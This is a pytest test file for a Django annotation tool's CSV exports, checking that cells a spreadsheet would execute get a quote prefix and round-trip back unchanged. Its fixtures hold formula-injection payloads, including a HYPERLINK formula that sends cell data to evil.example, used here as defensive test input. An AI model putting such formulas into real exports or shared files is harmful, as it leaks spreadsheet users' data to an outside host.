"""CSV formula injection (issue 14, item 7): every CSV export neutralizes cells a
spreadsheet would run, numbers stay numbers, and import_judgments reads back exactly what
the export wrote."""
import csv
import io
import json

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from annotate.models import Assignment, Judgment
from annotate.studies.importing import import_batch_bytes
from annotate.studies.judgments_csv import write_predictions
from annotate.studies.judgments_io import import_judgments
from evaluation.csv_cells import safe_cell, safe_row, unescape_cell
from tests.factories import header, jsonl

HOSTILE_A = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
HOSTILE_B = "@SUM(1+1)*cmd"
ITEM_ID = "+1+2"


@pytest.fixture(autouse=True)
def plain_http(settings):
    settings.SECURE_SSL_REDIRECT = False  # the test client speaks http


# --- the rule ---------------------------------------------------------------------------

@pytest.mark.parametrize("cell,written", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"), ("'plain", "''plain"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("-2", "-2"), ("1e-3", "1e-3"), ("-1.5E+10", "-1.5E+10"),
    ("-inf", "'-inf"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
])
def test_cells_a_spreadsheet_would_run_get_a_quote(cell, written):
    assert safe_cell(cell) == written
    assert unescape_cell(written) == cell


def test_non_text_cells_are_left_alone():
    assert safe_row([-0.5, 3, None, "-x"]) == [-0.5, 3, None, "'-x"]


@given(st.text())
def test_unescape_undoes_safe_cell_for_any_text(text):
    assert unescape_cell(safe_cell(text)) == text


# --- the exports --------------------------------------------------------------------------

def hostile_study():
    items = [{"item_id": ITEM_ID, "input": "Write a note.", "reference": "My note.",
              "candidates": [{"id": HOSTILE_A, "text": "one"}, {"id": HOSTILE_B, "text": "two"}]}]
    import_batch_bytes(jsonl(header("csv-inj", "pairwise_alignment"), *items))
    rows = [{"study": "csv-inj", "item_id": ITEM_ID, "annotator": annotator, "question": "choice",
             "value": value, "shown_order": f"{HOSTILE_B}|{HOSTILE_A}", "seconds": 12.5,
             "submitted_at": "2026-01-02T03:04:05+00:00"}
            for annotator, value in (("@mallory", HOSTILE_A), ("-ann", HOSTILE_B), ("plain-ann", HOSTILE_A))]
    data = "\n".join(json.dumps(r) for r in rows).encode()
    assert import_judgments(io.BytesIO(data))["created"] == 3


def stored():
    return sorted(Judgment.objects.values_list("item__item_id", "annotator__username", "question", "value",
                                               "shown_order", "seconds", "submitted_at"))


@pytest.mark.django_db
def test_judgments_csv_export_is_safe_and_imports_back_unchanged(researcher):
    hostile_study()
    original = stored()
    client = Client()
    client.force_login(researcher)
    response = client.get("/api/studies/csv-inj/judgments/?format=csv")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["study", "item_id", "annotator", "question", "value", "shown_order", "seconds",
                       "submitted_at", "comment", "platform", "study_id", "session_id"]
    assert rows[1:] == [
        ["csv-inj", "'+1+2", "'-ann", "choice", "'@SUM(1+1)*cmd", f"'{HOSTILE_B}|{HOSTILE_A}", "12.5",
         "2026-01-02T03:04:05+00:00", "", "", "", ""],
        ["csv-inj", "'+1+2", "'@mallory", "choice", "'" + HOSTILE_A, f"'{HOSTILE_B}|{HOSTILE_A}", "12.5",
         "2026-01-02T03:04:05+00:00", "", "", "", ""],
        ["csv-inj", "'+1+2", "plain-ann", "choice", "'" + HOSTILE_A, f"'{HOSTILE_B}|{HOSTILE_A}", "12.5",
         "2026-01-02T03:04:05+00:00", "", "", "", ""],
    ]
    # No cell of the file starts with a formula character.
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "@", "\t", "\r")
                or (c[:1] == "-" and c != "-")]
    # Round trip: forget the judgments, import the exported file, get the same rows.
    Judgment.objects.all().delete()
    Assignment.objects.all().delete()
    result = import_judgments(io.BytesIO(text.encode()))
    assert result["created"] == 3 and result["annotators_created"] == 0
    assert stored() == original
    # JSONL is not a spreadsheet format: values are written as stored.
    jsonl_text = b"".join(client.get("/api/studies/csv-inj/judgments/?format=jsonl").streaming_content).decode()
    assert json.loads(jsonl_text.splitlines()[1])["value"] == HOSTILE_A


@pytest.mark.django_db
def test_report_csv_table_is_safe(researcher):
    hostile_study()
    client = Client()
    client.force_login(researcher)
    response = client.get("/api/studies/csv-inj/report/?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:5] == ["item_id", "question", "is_gold", "n_judgments", "majority"]
    assert rows[0][5:] == ["n_" + HOSTILE_A, "n_" + HOSTILE_B]  # "n_" makes them harmless
    assert rows[1] == ["'+1+2", "choice", "0", "3", "'" + HOSTILE_A, "2", "1"]


def test_a_carriage_return_in_a_cell_keeps_the_row_whole():
    """Python's csv quotes only the line terminator's characters ("\n"); a bare CR split
    the row for readers (found by the hostile-names fuzz). Such rows are quoted."""
    from evaluation.csv_cells import SafeWriter

    out = io.StringIO()
    SafeWriter(out).writerows([["a\rb", "=c"], ["plain", "-1"]])
    assert out.getvalue() == "\"a\rb\",\"'=c\"\nplain,-1\n"
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["a\rb", "'=c"], ["plain", "-1"]]


def test_predictions_csv_writer_is_safe():
    out = io.StringIO()
    write_predictions([{"study": "s", "item_id": "=x", "evaluator": "@judge", "annotator": "",
                        "question": "choice", "value": "-0.25"}], out)
    assert out.getvalue().splitlines()[1] == "s,'=x,'@judge,,choice,-0.25"
